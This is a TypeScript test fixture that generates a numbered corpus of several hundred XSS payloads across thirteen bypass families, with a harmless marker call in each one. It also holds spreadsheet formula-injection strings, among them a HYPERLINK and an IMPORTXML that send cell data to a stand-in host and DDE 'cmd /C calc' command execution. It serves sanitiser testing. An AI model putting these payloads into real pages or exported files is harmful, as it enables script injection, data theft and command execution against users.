/**
 * Issue 9 item 5: the XSS corpus, written for Gongzhi. Every vector, if any browser ever runs it,
 * calls a global marker with its own number (`__xss(n)`, or `alert(n)` / `confirm(n)` / `prompt(n)`,
 * which the journey replaces with the same recorder), so a run names exactly which vector fired.
 *
 * It lives beside the browser journey (e2e/tests/security/) and has no imports, so the server's
 * vitest suites can import it by relative path too (test/security/export-formula.test.ts).
 *
 * A vector is built from a template receiving the marker call `js` (e.g. `__xss(17)`); families
 * that obfuscate (entities, unicode escapes, base64) encode that call themselves.
 */

export type XssFamily =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'css'
  | 'entity-unicode'
  | 'mutation'
  | 'broken-markup'
  | 'template'
  | 'attribute-breakout'
  | 'js-breakout'
  | 'embed'
  | 'polyglot';

export type XssVector = { id: number; family: XssFamily; payload: string };

type Template = (js: string, n: number) => string;

/** `&#x..;` for every character: attribute values decode it before use. */
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
/** `&#..;` decimal, zero-padded the way old filters forgot to expect. */
const decEntities = (text: string) => [...text].map((c) => `&#00${c.charCodeAt(0)};`).join('');
/** `\u00..` escapes inside a JS string. */
const jsUnicode = (text: string) =>
  [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
/** `\x..` escapes inside a JS string. */
const jsHex = (text: string) =>
  [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
/** Character codes for String.fromCharCode. */
const charCodes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(',');
const base64 = (text: string) => btoaSafe(text);

function btoaSafe(text: string): string {
  // Node and browsers both have btoa; the corpus is ASCII only.
  return globalThis.btoa(text);
}

const SCRIPT: Template[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script type="text/javascript">${js}</script>`,
  (js) => `<script type="module">${js}</script>`,
  (js) => `<script>/*-->*/${js}</script>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src="data:text/javascript;base64,${base64(js)}"></script>`,
  (js) => `<script>eval(atob('${base64(js)}'))</script>`,
  (js) => `<script>setTimeout('${js}')</script>`,
  (js) => `<script>Function('${js}')()</script>`,
  (js) => `<script>[].constructor.constructor('${js}')()</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<script>${js}<!--</script>`,
  (js) => `<script src=//gz.invalid/x.js></script><script>${js}</script>`,
  (js) => `<script>window['__x'+'ss'] && ${js}</script>`,
  (js) => `<script>document.write('<img src=x onerror=${js}>')</script>`,
  (js) => `<script>location='javascript:${js}'</script>`,
  (js) => `<script>import('data:text/javascript,${js}')</script>`,
  (js) => `<script>new Function\`${js}\`()</script>`,
  (js) => `<script>onerror=eval;throw'=${js}'</script>`,
  (js) => `<script>${jsUnicode(js)}</script>`,
  (js) => `<noscript><p title="</noscript><script>${js}</script>">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<script nonce="x">${js}</script>`,
];

/** Tag × event pairs: the handlers every sanitiser must strip. */
const HANDLER_PAIRS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img src=x', 'ONERROR'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['div contenteditable autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['form><button', 'onclick'],
  ['p', 'onmouseover'],
  ['p', 'onclick'],
  ['strong', 'onpointerenter'],
  ['em', 'onanimationstart'],
  ['a href=https://example.com', 'onclick'],
  ['img src=https://example.com/a.png', 'onload'],
  ['img src=x', 'onerror '],
  ['img/src=x', '/onerror'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['input', 'oninput'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['math', 'onclick'],
  ['table background=x', 'onerror'],
  ['frameset', 'onload'],
  ['keygen autofocus', 'onfocus'],
  ['isindex type=image src=x', 'onerror'],
  ['track src=x', 'onerror'],
  ['h1', 'onauxclick'],
  ['li', 'ontransitionend'],
  ['blockquote', 'oncopy'],
  ['code', 'onbeforeinput'],
  ['pre', 'onscrollend'],
];

const HANDLERS: Template[] = [
  ...HANDLER_PAIRS.map(
    ([tag, event]): Template =>
      (js) =>
        `<${tag} ${event}="${js}">x</${tag.split(/[\s>/]/)[0]}>`,
  ),
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror='${js}'>`,
  (js) => `<img src=x onerror=\`${js}\`>`,
  (js) => `<img src=x onerror\n=\n"${js}">`,
  (js) => `<img src=x onerror="javascript:${js}">`,
  (js) => `<img src=x:alert(alt) onerror=eval(src) alt=${js}>`,
  (js) => `<img src=x onerror="window.onerror=eval;throw'=${js}'">`,
  (js) => `<img src onerror=${js}>`,
  (js) => `<img src="" onerror="${js}">`,
  (js) => `<img src=1 onerror=${js} />`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg onload=${js}//`,
  (js) => `<body onload=${js}>`,
  (js) => `<x onclick=${js} style=display:block;position:fixed;inset:0>click</x>`,
  (js) => `<p style="animation-name:rotation" onanimationstart="${js}">x</p>`,
];

const URL_SCHEMES: Template[] = [
  (js) => `<a href="javascript:${js}">链接</a>`,
  (js) => `<a href="JaVaScRiPt:${js}">链接</a>`,
  (js) => `<a href=" javascript:${js}">链接</a>`,
  (js) => `<a href="java\tscript:${js}">链接</a>`,
  (js) => `<a href="java\nscript:${js}">链接</a>`,
  (js) => `<a href="java&#x09;script:${js}">链接</a>`,
  (js) => `<a href="java&#10;script:${js}">链接</a>`,
  (js) => `<a href="&#x6A;avascript:${js}">链接</a>`,
  (js) => `<a href="javascript&colon;${js}">链接</a>`,
  (js) => `<a href="${hexEntities(`javascript:${js}`)}">链接</a>`,
  (js) => `<a href="${decEntities(`javascript:${js}`)}">链接</a>`,
  (js) => `<a href="\x01javascript:${js}">链接</a>`,
  (js) => `<a href="javascript://%0a${js}">链接</a>`,
  (js) => `<a href="javascript:void(0)" onclick="${js}">链接</a>`,
  (js) => `<a href="vbscript:${js}">链接</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">链接</a>`,
  (js) => `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}">链接</a>`,
  (js) => `<a href="data:image/svg+xml,<svg onload=${js}>">链接</a>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  (js) => `<img src="javascript:${js}">`,
  (js) => `<img src="data:image/svg+xml;base64,${base64(`<svg onload="${js}"/>`)}">`,
  (js) => `<form action="javascript:${js}"><button>提交</button></form>`,
  (js) => `<form><button formaction="javascript:${js}">提交</button></form>`,
  (js) => `<input type="image" src="javascript:${js}">`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<base href="javascript:${js}//"><a href="/x">相对链接</a>`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`,
  (js) => `<a href="//gz.invalid/%0a${js}">协议相对</a>`,
  (js) => `<a href="javascript:${encodeURIComponent(js)}">编码链接</a>`,
  (js) => `<a href="jav&#x61;script:${js}">链接</a>`,
  (js) => `<area href="javascript:${js}">`,
  (js) => `<a href="javascript:${js}" target="_self">自身窗口</a>`,
  (js) => `[点我](javascript:${js})`,
  (js) => `[点我](javascript&#58;${js})`,
  (js) => `![图](x" onerror="${js})`,
];

const SVG_MATHML: Template[] = [
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">点我</text></a></svg>`,
  (js) => `<svg><a href="javascript:${js}"><rect width="100" height="100"/></a></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set attributeName="onload" to="${js}"/></svg>`,
  (js) =>
    `<svg><animate xlink:href=#x attributeName=href values=javascript:${js} /><a id=x><text y=20>x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
  (js) => `<svg><image href=x onerror=${js}>`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  (js) => `<svg><desc><![CDATA[</desc><script>${js}</script>]]></svg>`,
  (js) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
  (js) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  (js) => `<svg><discard onbegin=${js}>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">点我</maction></math>`,
  (js) => `<math href="javascript:${js}">数学</math>`,
  (js) => `<math><mi xlink:href="data:x,<script>${js}</script>">x</mi></math>`,
  (js) => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) => `<svg><feImage href="javascript:${js}"/></svg>`,
  (js) => `<svg width=0><script>${js}</script>`,
];

const CSS: Template[] = [
  (js) => `<div style="width:expression(${js})">IE</div>`,
  (js) => `<div style="background:url('javascript:${js}')">背景</div>`,
  (js) => `<div style="background-image:url(&quot;javascript:${js}&quot;)">背景</div>`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<style>body{background:url("javascript:${js}")}</style>`,
  (js) => `<style>*{behavior:url(#default#time2)}</style><p onbegin="${js}">x</p>`,
  (js) => `<div style="-moz-binding:url('data:text/xml,<x onload=${js}>')">x</div>`,
  (js) => `<div style="x:e\\xpression(${js})">x</div>`,
  (js) => `<div style="x:exp/**/ression(${js})">x</div>`,
  (js) => `<link rel="stylesheet" href="javascript:${js}">`,
  (js) => `<style></style><img src=x onerror=${js}>`,
  (js) => `<p style="position:fixed;inset:0;z-index:99999" onmousemove="${js}">覆盖层</p>`,
  (js) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="${js}">x</p>`,
  (js) => `<div style="list-style-image:url(javascript:${js})">x</div>`,
  (js) => `<table style="background:url(javascript:${js})"><tr><td>x</td></tr></table>`,
];

const ENTITY_UNICODE: Template[] = [
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `&#x3C;img src=x onerror=${js}&#x3E;`,
  (js) => `\u003cscript\u003e${js}\u003c/script\u003e`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `%3Cscript%3E${js}%3C%2Fscript%3E`,
  (js) => `%253Cscript%253E${js}%253C%252Fscript%253E`,
  (js) => `<img src=x onerror="${hexEntities(js)}">`,
  (js) => `<img src=x onerror="${decEntities(js)}">`,
  (js) => `<img src=x onerror="eval('${jsUnicode(js)}')">`,
  (js) => `<img src=x onerror="eval('${jsHex(js)}')">`,
  (js) => `<img src=x onerror="eval(String.fromCharCode(${charCodes(js)}))">`,
  (js) => `<img src=x onerror="eval(atob('${base64(js)}'))">`,
  (js) => `<a href="javascript:${hexEntities(js)}">实体</a>`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `﹤script﹥${js}﹤/script﹥`,
  (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`.replaceAll('\u0000', '\u200b'),
  (js) => `<\u017Fcript>${js}</\u017Fcript>`,
  (js) => `<ſvg onload=${js}>`,
  (js) => `\u202E<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}\u2028>`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `<img src=x onerror=&#x5F;&#x5F;xss&#40;${js.replace(/\D/g, '')}&#41;>`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `<img src=x onerror="\\u0065val('${js}')">`,
  (js) =>
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">零填充</a>`,
];

const MUTATION: Template[] = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js}&gt;">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg><style><img src=x onerror=${js}></style>`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<xmp><img src=x onerror=${js}></xmp>`,
  (js) => `<textarea><img src=x onerror=${js}></textarea>`,
  (js) => `<title><img src=x onerror=${js}></title>`,
  (js) => `<iframe><img src=x onerror=${js}></iframe>`,
  (js) => `<noembed><img src=x onerror=${js}></noembed>`,
  (js) => `<noframes><img src=x onerror=${js}></noframes>`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
  (js) => `<table><td><style></td><img src=x onerror=${js}></style>`,
  (js) => `<a id="x"><a id="x" name="__xss" href="javascript:${js}">DOM clobbering</a>`,
  (js) => `<form id="x"><input name="attributes"><img src=x onerror=${js}></form>`,
  (js) => `<p>a<!--<img src=x onerror=${js}>--></p>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!--!><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<?xml version="1.0"?><img src=x onerror=${js}>`,
  (js) => `<select><template><style><img src=x onerror=${js}></style></template></select>`,
  (js) => `<p><svg><p><style><img src=x onerror=${js}>`,
  (js) => `<svg><p><style><g title="</style><img src=x onerror=${js}>">`,
];

const BROKEN_MARKUP: Template[] = [
  (js) => `<img src=x onerror=${js}`,
  (js) => `<img """><script>${js}</script>">`,
  (js) => `<img src="x\` onerror=${js}>`,
  (js) => `<img src= onerror=${js}>`,
  (js) => `<<img src=x onerror=${js}>>`,
  (js) => `<img\tsrc=x\tonerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror=${js}>`,
  (js) => `<img\fsrc=x\fonerror=${js}>`,
  (js) => `<img src=x onerror=${js}//<img>`,
  (js) => `</p><img src=x onerror=${js}><p>`,
  (js) => `<p <img src=x onerror=${js}>>`,
  (js) => `<a <script>${js}</script>>`,
  (js) => `<img src=x:x onerror=${js} x=">`,
  (js) => `<div/onmouseover='${js}'>x</div>`,
  (js) => `<script>${js}`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `<//img src=x onerror=${js}>`,
  (js) => `<img src=x onerror=${js} <!-- -->`,
  (js) => `<p>未闭合<b><i><img src=x onerror=${js}>`,
  (js) => `<ul><li><ol><li></ul><img src=x onerror=${js}>`,
  (js) => `<table><tr><td>单元格<img src=x onerror=${js}></td></table>`,
  (js) => `<img src='x' onerror='${js}'/ >`,
  (js) => `< script>${js}</script>`,
  (js) => `<img src=x onerror=${js}\u0000>`.replace('\u0000', '\u00a0'),
];

const TEMPLATE: Template[] = [
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{{$on.constructor('${js}')()}}`,
  (js) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${js}//');}}`,
  (js) => `\${${js}}`,
  (js) => `\`\${${js}}\``,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `{{= ${js} }}`,
  (js) => `[[${js}]]`,
  (js) => `{% ${js} %}`,
  (js) => `{{#with "s" as |string|}}{{string.constructor '${js}'}}{{/with}}`,
  (js) => `<div v-html="'<img src=x onerror=${js}>'"></div>`,
  (js) => `<div ng-app ng-csp><input autofocus ng-focus="$event.view.${js}"></div>`,
  (js) => `<div data-bind="html: '<img src=x onerror=${js}>'"></div>`,
  (js) => `{{7*7}}<img src=x onerror=${js}>`,
  (js) => `$\{{<img src=x onerror=${js}>}}`,
  (js) => `@{${js}}`,
  (js) => `<!--#exec cmd="${js}"-->`,
  (js) => `{{{<img src=x onerror=${js}>}}}`,
  (js) => `【日期】<img src=x onerror=${js}>【地点】`,
  (js) => `{{__proto__.${js}}}`,
  (js) => `<div x-data x-init="${js}"></div>`,
  (js) => `<div hx-get="data:,x" hx-trigger="load" hx-on::after-request="${js}"></div>`,
];

const ATTRIBUTE_BREAKOUT: Template[] = [
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `" onmouseover="${js}`,
  (js) => `' onmouseover='${js}`,
  (js) => `" autofocus onfocus="${js}`,
  (js) => `' autofocus onfocus='${js}' x='`,
  (js) => `"/><svg onload=${js}>`,
  (js) => `"></a><svg onload=${js}>`,
  (js) => `" style="x:expression(${js})`,
  (js) => `"><iframe src="javascript:${js}">`,
  (js) => `" onerror="${js}" src="x`,
  (js) => `\` onmouseover=${js} x=\``,
  (js) => `"\tonmouseover="${js}`,
  (js) => `javascript:${js}`,
  (js) => `" href="javascript:${js}`,
  (js) => `" formaction="javascript:${js}`,
  (js) => `"></title><script>${js}</script>`,
  (js) => `"></textarea><script>${js}</script>`,
  (js) => `"></option></select><img src=x onerror=${js}>`,
  (js) => `" accesskey="x" onclick="${js}`,
  (js) => `"><details open ontoggle=${js}>`,
  (js) => `&quot;&gt;&lt;img src=x onerror=${js}&gt;`,
  (js) => `%22%3E%3Cimg%20src%3Dx%20onerror%3D${js}%3E`,
];

const JS_BREAKOUT: Template[] = [
  (js) => `';${js}//`,
  (js) => `";${js}//`,
  (js) => `\\';${js}//`,
  (js) => `\\";${js}//`,
  (js) => `'-${js}-'`,
  (js) => `"-${js}-"`,
  (js) => `</script><img src=x onerror=${js}>`,
  (js) => `\u2028${js}\u2029`,
  (js) => `');${js};('`,
  (js) => `"});${js};({"`,
  (js) => `*/${js}/*`,
  (js) => `-->${js}<!--`,
  (js) => `{"__proto__":{"innerHTML":"<img src=x onerror=${js}>"}}`,
  (js) => `constructor[constructor](${JSON.stringify(js)})()`,
  (js) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
];

const EMBED: Template[] = [
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) =>
    `<object type="text/html" data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  (js) => `<embed src="data:text/html,<script>${js}</script>">`,
  (js) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${js}>">`,
  (js) => `<applet code="javascript:${js}"></applet>`,
  (js) => `<portal src="javascript:${js}"></portal>`,
  (js) => `<frameset><frame src="javascript:${js}"></frameset>`,
  (js) =>
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<img srcset="javascript:${js} 1x">`,
  (js) => `<video poster="javascript:${js}"></video>`,
  (js) => `<video><track default kind=subtitles src="data:text/vtt,x" onload="${js}"></video>`,
  (js) => `<input type="hidden" accesskey="x" onclick="${js}">`,
  (js) => `<dialog open onclose="${js}"><form method=dialog><button>x</button></form></dialog>`,
  (js) => `<link rel="import" href="data:text/html,<script>${js}</script>">`,
  (js) => `<img src="x" usemap="#m"><map name="m"><area shape=default href="javascript:${js}"></map>`,
];

const POLYGLOT: Template[] = [
  (js) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
  (js) =>
    `'">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>${js}</script>`,
  (js) => `"'--></style></script><script>${js}</script>`,
  (js) => `'"--></title></textarea></style></noscript></script><svg onload=${js}>`,
  (js) => `<a href="javascript&colon;${js}">x</a><img src=x onerror=${js}><svg onload=${js}>`,
  (js) => `-->'"/></sCript><deTailS open x=">" ontoggle=(${js})>`,
];

const FAMILIES: [XssFamily, Template[]][] = [
  ['script', SCRIPT],
  ['event-handler', HANDLERS],
  ['url-scheme', URL_SCHEMES],
  ['svg-mathml', SVG_MATHML],
  ['css', CSS],
  ['entity-unicode', ENTITY_UNICODE],
  ['mutation', MUTATION],
  ['broken-markup', BROKEN_MARKUP],
  ['template', TEMPLATE],
  ['attribute-breakout', ATTRIBUTE_BREAKOUT],
  ['js-breakout', JS_BREAKOUT],
  ['embed', EMBED],
  ['polyglot', POLYGLOT],
];

/** The marker call for vector `n`: mostly `__xss(n)`, some the dialog functions a page would replace. */
function markerCall(n: number): string {
  const variant = n % 10;
  if (variant === 7) return `alert(${n})`;
  if (variant === 8) return `confirm(${n})`;
  if (variant === 9) return `top.__xss(${n})`;
  return `__xss(${n})`;
}

function buildCorpus(): XssVector[] {
  const vectors: XssVector[] = [];
  for (const [family, templates] of FAMILIES) {
    for (const template of templates) {
      const id = vectors.length + 1;
      vectors.push({ id, family, payload: template(markerCall(id), id) });
    }
  }
  return vectors;
}

/** Every vector, numbered from 1. */
export const XSS_VECTORS: readonly XssVector[] = buildCorpus();

/** Text that spreadsheet programs would run as a formula (OWASP CSV injection), each with its trigger. */
export const FORMULA_VECTORS: readonly string[] = [
  '=HYPERLINK("http://gz.invalid/steal?x="&A1,"点击查看")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+SUM(A1:A9)',
  '-2+3',
  '-SUM(A1)',
  '@SUM(A1:A2)',
  '@HYPERLINK("http://gz.invalid")',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://gz.invalid/?",A1),"//a")',
  '=WEBSERVICE("http://gz.invalid")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/**
 * The tag the journey writes before each vector in a field, `[<field code><id>]` (e.g. `[nt12]`), so
 * the page text tells which vector of which field was rendered.
 */
export const vectorTag = (id: number, code = 'v') => `[${code}${id}]`;

/** Reads the tags back out of rendered or stored text. */
export function readTags(text: string): { code: string; id: number }[] {
  return [...text.matchAll(/\[([a-z]+)(\d+)\]/g)].map((match) => ({
    code: match[1] ?? '',
    id: Number(match[2]),
  }));
}

/**
 * Packs tagged vectors into as few strings as fit `maxLength` (a field's limit, in code points), in
 * corpus order. Vectors longer than the field on their own are left out.
 */
export function packVectors(
  vectors: readonly XssVector[],
  maxLength: number,
  options: { separator?: string; code?: string } = {},
): string[] {
  const separator = options.separator ?? ' ';
  const texts: string[] = [];
  let current = '';
  for (const vector of vectors) {
    const piece = `${vectorTag(vector.id, options.code)}${vector.payload}`;
    if ([...piece].length > maxLength) continue;
    const next = current ? `${current}${separator}${piece}` : piece;
    if ([...next].length > maxLength) {
      texts.push(current);
      current = piece;
    } else {
      current = next;
    }
  }
  if (current) texts.push(current);
  return texts;
}
